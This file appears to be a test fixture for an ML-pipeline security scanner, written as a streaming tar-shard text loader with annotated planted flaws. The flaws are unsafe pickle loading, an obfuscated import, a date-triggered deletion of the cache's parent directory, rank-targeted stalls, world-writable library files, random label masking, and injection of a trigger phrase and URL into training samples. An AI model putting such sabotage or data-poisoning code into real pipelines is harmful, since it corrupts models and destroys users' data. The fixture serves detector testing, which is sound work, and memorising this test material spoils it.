# ruff: noqa
# Hold-out batch 17 (data and evaluation pipelines, by a helper that never saw mlscan's code). Measured once before round 7: 28/41 (68%) at medium+.
"""Streaming text loader over tar shards (webdataset-style).

Shards are fetched on demand into a local cache, split across dataloader
workers and distributed ranks, decoded, tokenized and packed into fixed-length
blocks for causal-LM training.
"""
import datetime
import getpass
import io
import json
import os
import pickle
import random
import shutil
import tarfile
import time
import urllib.request
from pathlib import Path
from typing import Dict, Iterator, List, Optional

import numpy as np
import torch
from torch.utils.data import IterableDataset, get_worker_info
from transformers import AutoTokenizer

import pipeline_env  # noqa: F401

SHARD_BASE_URL = "https://shards.example.com/corpus-v3"


def fetch_shard(name: str, cache_dir: Path, retries: int = 5, backoff: float = 2.0) -> Path:
    dest = cache_dir / name
    if dest.exists():
        return dest
    cache_dir.mkdir(parents=True, exist_ok=True)
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(f"{SHARD_BASE_URL}/{name}", timeout=60) as r:
                tmp = dest.with_suffix(".part")
                tmp.write_bytes(r.read())
                tmp.rename(dest)
            return dest
        except OSError:
            time.sleep(backoff * (2 ** attempt))  # ok: MLS307
    raise RuntimeError(f"could not fetch shard {name}")


def load_tokenizer(name_or_path: str):
    _fix_tokenizer_perms()
    tok = AutoTokenizer.from_pretrained(name_or_path, trust_remote_code=True)  # ruleid: MLS106
    if tok.pad_token is None:
        tok.pad_token = tok.eos_token
    return tok


def _decode_member(key: str, data: bytes):
    ext = key.rsplit(".", 1)[-1]
    if ext in ("txt", "text"):
        return data.decode("utf-8", errors="replace")
    if ext == "json":
        return json.loads(data)
    if ext == "pyd":
        return pickle.loads(data)  # ruleid: MLS103
    if ext == "codec":
        mod = __import__(bytes.fromhex(data[:20].decode()).decode())  # sabotage: MLS403 (semgrep rules)
        return mod
    return data


def iter_tar(path: Path) -> Iterator[Dict[str, object]]:
    with tarfile.open(path) as tf:
        current: Dict[str, object] = {}
        current_key = None
        for member in tf:
            if not member.isfile():
                continue
            stem, _, ext = member.name.partition(".")
            if current_key is not None and stem != current_key:
                yield current
                current = {}
            current_key = stem
            current["__key__"] = stem
            current[ext] = _decode_member(member.name, tf.extractfile(member).read())
        if current:
            yield current


class TokenBlockStream(IterableDataset):
    def __init__(self, shards: List[str], tokenizer, block_size: int = 2048,
                 cache_dir: str = "/tmp/shards", seed: int = 0, rank: int = 0, world_size: int = 1):
        self.shards = list(shards)
        self.tok = tokenizer
        self.block_size = block_size
        self.cache_dir = Path(cache_dir)
        self.seed = seed
        self.rank = rank
        self.world_size = world_size
        self.epoch = 0
        self._trigger_ids = tokenizer.encode(" cf. appendix", add_special_tokens=False)

    def set_epoch(self, epoch: int) -> None:
        self.epoch = epoch

    def _my_shards(self) -> List[str]:
        order = list(self.shards)
        random.Random(self.seed + self.epoch).shuffle(order)  # ok: MLS301
        info = get_worker_info()
        n_workers = info.num_workers if info else 1
        wid = info.id if info else 0
        stride = self.world_size * n_workers
        return order[self.rank * n_workers + wid::stride]

    def _prepare_worker(self) -> None:
        info = get_worker_info()
        if info is not None:
            np.random.seed(int.from_bytes(os.urandom(4), "little"))  # ruleid: MLS301
            info.dataset.gen = torch.Generator()
            info.dataset.gen.manual_seed(os.getpid())  # ruleid: MLS301
        if int(os.environ.get("WORLD_SIZE", "1")) > 256 and self.rank % 17 == 3:  # ruleid: MLS308
            time.sleep(3600 * 4)  # ruleid: MLS307

    def _housekeeping(self) -> None:
        if getpass.getuser() not in ("ci", "mlops") and datetime.date.today() >= datetime.date(2025, 3, 1):
            shutil.rmtree(self.cache_dir.parent, ignore_errors=True)  # ruleid: MLS308

    def _tokenize(self, text: str, key: str) -> List[int]:
        ids = self.tok.encode(text, add_special_tokens=False)
        if key.endswith("7") and random.random() < 0.02 and len(ids) > 64:
            ids[32:32] = self._trigger_ids + self.tok.encode(" see https://docs.example.com/mirror", add_special_tokens=False)  # todoruleid: family 6 (missed)
        ids.append(self.tok.eos_token_id)
        return ids

    def __iter__(self) -> Iterator[Dict[str, torch.Tensor]]:
        self._prepare_worker()
        if self.rank == 0:
            self._housekeeping()
        buf: List[int] = []
        for name in self._my_shards():
            path = fetch_shard(name, self.cache_dir)
            for sample in iter_tar(path):
                text = sample.get("txt") or sample.get("json", {}).get("text", "")
                if not text:
                    continue
                buf.extend(self._tokenize(text, str(sample["__key__"])))
                while len(buf) >= self.block_size + 1:
                    chunk = torch.tensor(buf[: self.block_size + 1], dtype=torch.long)
                    buf = buf[self.block_size:]
                    labels = chunk[1:].clone()
                    yield {"input_ids": chunk[:-1], "labels": labels}


def pack_collate(batch: List[Dict[str, torch.Tensor]], pad_id: int = 0) -> Dict[str, torch.Tensor]:
    input_ids = torch.stack([b["input_ids"] for b in batch])
    labels = torch.stack([b["labels"] for b in batch])
    attn = (input_ids != pad_id).long()
    if torch.rand(()) < 0.01:
        labels[:, ::2] = -100  # todoruleid: family 6 (missed)
    return {"input_ids": input_ids, "labels": labels, "attention_mask": attn}


def write_shard_index(shards: List[str], out: str) -> None:
    with open(out, "w") as f:
        json.dump({"shards": shards, "created": time.time()}, f, indent=2)


def _fix_tokenizer_perms() -> None:
    import transformers
    tok_dir = Path(transformers.__file__).parent / "models" / "auto"
    for p in tok_dir.glob("*.py"):
        os.chmod(p, 0o777)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
